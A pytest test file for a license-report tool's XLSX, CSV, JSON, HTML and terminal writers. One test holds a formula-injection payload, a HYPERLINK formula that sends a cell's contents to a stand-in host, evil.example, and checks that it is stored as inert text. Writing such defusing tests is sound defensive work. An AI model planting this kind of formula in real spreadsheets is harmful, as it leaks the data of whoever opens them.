"""XLSX, CSV, JSON and the terminal's text, read back."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import datetime, timedelta

import openpyxl
import pytest

from licsweep import reports
from licsweep.errors import OutputError, UsageError
from licsweep.reports.defuse import is_formula_like
from licsweep.reports.schema import schemas
from licsweep.reports.xlsx import sheet_name

KINDS = tuple(reports.KINDS)


@pytest.fixture(params=KINDS)
def report(request, given):
    return given.report(request.param)


def sheets(report, folder):
    (path,) = reports.write(report, "xlsx", folder)
    return openpyxl.load_workbook(io.BytesIO(path.read_bytes()))


def test_xlsx_holds_every_table_typed(report, tmp_path):
    """One sheet a question, the most important first; what is not known is an empty cell with a note."""
    book = sheets(report, tmp_path)
    names = [sheet_name(table) for table in report.of("files")]
    assert book.sheetnames == [names[0], "About", *names[1:]]
    for table, name in zip(report.of("files"), names, strict=True):
        sheet = book[name]
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert [cell.value for cell in sheet[1]][: len(table.columns)] == [column.heading for column in table.columns]
        totals = bool(table.totals and table.rows)
        assert sheet.max_row == len(table.rows) + 1 + totals
        rows = sheet.iter_rows(min_row=2, max_row=len(table.rows) + 1, max_col=len(table.columns))
        for row, cells in zip(table.rows, rows, strict=bool(table.rows)):
            for value, cell, column in zip(row, cells, table.columns, strict=True):
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if value is None:
                    assert (cell.value, cell.comment.text) == (None, column.missing)
                elif isinstance(value, datetime):
                    assert cell.value == value.replace(tzinfo=None)
                elif column.kind == "percent":
                    assert (cell.value, cell.number_format) == (pytest.approx(value / 100), "0.0%")
                elif isinstance(value, bool | int):
                    assert (type(cell.value), cell.value) == (type(value), value)


def test_xlsx_totals_follow_the_filter_and_a_chart_stands_beside(given, tmp_path):
    sheet = sheets(given.report("usage"), tmp_path)["Pools"]
    heads = [cell.value for cell in sheet[1]]
    total = sheet.cell(sheet.max_row, heads.index("Shortage") + 1)
    assert total.value == "=SUBTOTAL(109,C2:C6)"
    assert len(sheet._charts) == 1
    assert any("C2" in str(where.sqref) for where in sheet.conditional_formatting)


def test_xlsx_actions_are_filled_in_by_people(given, tmp_path):
    book = sheets(given.report("actions"), tmp_path)
    assert book.sheetnames[0] == "What to do"
    sheet = book["What to do"]
    heads = [cell.value for cell in sheet[1]]
    assert {"Owner", "State (fill in)"} < set(heads)
    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"open,in progress,done,not to do"']


def test_xlsx_hostile_texts_are_quoted_strings(given, tmp_path):
    cells = [cell for row in sheets(given.report("usage"), tmp_path)["Pools"].iter_rows(min_row=2) for cell in row]
    hostile = [cell for cell in cells if cell.data_type == "s" and is_formula_like(cell.value)]
    assert [cell.value for cell in hostile] == ['=HYPERLINK("http://evil.example/?x="&A1,"Core")']
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


def test_xlsx_cover_carries_the_statement(report, tmp_path):
    words = [cell.value for row in sheets(report, tmp_path)["About"].iter_rows() for cell in row]
    assert report.headline in words
    assert report.statement in words
    assert words.index("Coverage") < words.index(report.headline)


def test_xlsx_year_before_excel_is_text(given, tmp_path):
    report = given.report("usage")
    table = report.main_table
    row = tuple(datetime(1066, 10, 14) if column.key == "cssm_as_of" else None for column in table.columns)
    report = replace(report, tables=(replace(table, rows=(row,)),))
    assert "1066-10-14 00:00" in [cell.value for cell in sheets(report, tmp_path)["Pools"][2]]


def test_csv_in_a_folder_is_one_file_a_table(report, tmp_path):
    paths = reports.write(report, "csv", tmp_path)
    stem = f"licsweep-{report.kind}-2026-11-24"
    assert {path.name for path in paths} == {f"{stem}-{table.name}.csv" for table in report.of("files")}
    assert paths[0].name == f"{stem}-{report.main}.csv"
    for table in report.of("files"):
        with (tmp_path / f"{stem}-{table.name}.csv").open(newline="", encoding="utf-8") as file:
            header, *rows = csv.reader(file)
        assert header == [column.key for column in table.columns]
        assert len(rows) == len(table.rows)
        for row, fields in zip(table.rows, rows, strict=True):
            for value, text in zip(row, fields, strict=True):
                assert text != ""
                if isinstance(value, int) and not isinstance(value, bool):
                    assert text == str(value)
                else:
                    assert not is_formula_like(text)


def test_csv_of_one_file_is_the_main_table(given, tmp_path):
    (path,) = reports.write(given.report("usage"), "csv", tmp_path / "own-name.csv")
    assert path.name == "own-name.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    short = next(row for row in rows if row["status"] == "shortage")
    assert (short["balance"], short["cssm_in_use"]) == ("-1", "not known")
    assert [row["virtual_account"][:11] for row in rows if "HYPERLINK" in row["virtual_account"]] == ["'=HYPERLINK"]


def test_a_byte_order_mark_on_request(given, tmp_path):
    report = given.report("usage")
    (plain,), (marked,) = (reports.write(report, "csv", tmp_path / f"{bom}.csv", bom=bom) for bom in (False, True))
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    (page,) = reports.write(report, "html", tmp_path / "page.html", bom=True)
    assert page.read_bytes().startswith(b"<!DOCTYPE html>")


def test_json_is_the_same_for_the_same_input(report, given):
    text = reports.render(report, "json")
    assert text == reports.render(given.report(report.kind), "json")
    later = reports.KINDS[report.kind](given.result, generated_at=report.generated_at + timedelta(days=1))
    assert text == reports.render(later, "json")
    assert json.loads(text)["generated_at"] == json.loads(text)["data"]["as_of"]


def test_json_is_what_the_published_schema_says(report):
    """Every table and column of the schema stands in the data, and nothing else."""
    schema = schemas().get(f"report-{report.kind}")
    data = json.loads(reports.render(report, "json"))["data"]
    if schema is None:
        assert report.kind in ("actions", "contract"), "these publish the schema of their own data"
        return
    assert list(data) == list(schema["properties"])
    names = {"integer": int, "number": int | float, "string": str, "boolean": bool, "null": None}
    for name, table in schema["properties"].items():
        for row in data[name] if table["type"] == "array" else ():
            assert list(row) == list(table["items"]["properties"])
            for key, column in table["items"]["properties"].items():
                allowed = column.get("type")
                kinds = [names[one] for one in ([allowed] if isinstance(allowed, str) else allowed)]
                assert any(row[key] is None if one is None else isinstance(row[key], one) for one in kinds), key


def test_json_has_the_envelope_and_nulls(given):
    document = json.loads(reports.render(given.report("usage"), "json"))
    assert set(document) == {"schema", "generated_at", "tool", "data"}
    assert document["schema"] == "licsweep/report-usage/1"
    data = document["data"]
    assert data["coverage"] == {
        "selected": 10,
        "outcomes": {"ok": 7, "unreachable": 1, "auth-failed": 1},
        "percent": 70.0,
        "fresh": 0,
        "gathered": 0,
        "left_inventory": 0,
        "never_tried": 0,
    }
    assert data["as_of"] == "2026-11-24T07:00:00Z"
    assert "unsigned" in data["statement"]
    assert data["pools"][1]["owned"] is None
    assert data["lines"][-1]["count"] is None


def test_terminal_text_obeys_no_device(report):
    text = reports.render(report, "table")
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert report.headline in " ".join(text.split())


def test_names_follow_kind_and_date(report, tmp_path):
    for format in ("html", "xlsx", "json"):
        (path,) = reports.write(report, format, tmp_path)
        assert path.name == f"licsweep-{report.kind}-2026-11-24.{format}"
    assert not list(tmp_path.glob("*.part"))


def test_html_is_text_and_a_workbook_is_none(given):
    assert reports.render(given.report("usage"), "html").startswith("<!DOCTYPE html>")
    with pytest.raises(UsageError, match="is a file"):
        reports.render(given.report("usage"), "xlsx")


def test_an_unwritable_place_is_an_error_in_words(given, tmp_path):
    with pytest.raises(OutputError, match="No such file or directory"):
        reports.write(given.report("usage"), "json", tmp_path / "missing" / "report.json")


def test_an_unknown_format_is_an_error_in_words(given, tmp_path):
    with pytest.raises(UsageError, match="unknown format 'pdf'"):
        reports.write(given.report("usage"), "pdf", tmp_path)


def test_a_folder_gets_the_page_with_all_rows_beside_it(given, tmp_path):
    report = given.report("usage")
    page, book, *tables = reports.write(report, None, tmp_path)
    assert (page.suffix, book.suffix, {path.suffix for path in tables}) == (".html", ".xlsx", {".csv"})
    links = set(re.findall(r'href="([^"#]+)"', page.read_text("utf-8")))
    assert links == {path.name for path in (book, *tables)}
    (alone,) = reports.write(report, "html", tmp_path / "alone.html")
    assert re.findall(r'href="[^"#]+"', alone.read_text("utf-8")) == []


def test_xlsx_money_is_a_number(given, tmp_path):
    report = given.report("contract")
    table = next(table for table in report.tables if table.name == "payments")
    row = tuple(1234.5 if column.kind == "money" else None for column in table.columns)
    sheet = sheets(replace(report, tables=(replace(table, rows=(row,)),)), tmp_path)["Payments"]
    (cell,) = [cell for cell in sheet[2] if cell.value is not None]
    assert (cell.value, cell.number_format) == (1234.5, "#,##0.00")


def test_a_chart_leaves_out_rows_without_a_name(given, tmp_path):
    """Excel would show them as part of the family before them."""
    report = given.report("estate")
    table = next(table for table in report.tables if table.name == "states-by-product")
    rows = (("Catalyst 9000", "authorized", 2, 50.0), ("Nexus", "legacy", 1, 25.0), (None, "unknown", 1, 25.0))
    sheet = sheets(replace(report, tables=(replace(table, rows=rows),)), tmp_path)["States by product family"]
    (series,) = sheet._charts[0].series
    assert series.val.numRef.f.endswith("$C$2:$C$3")
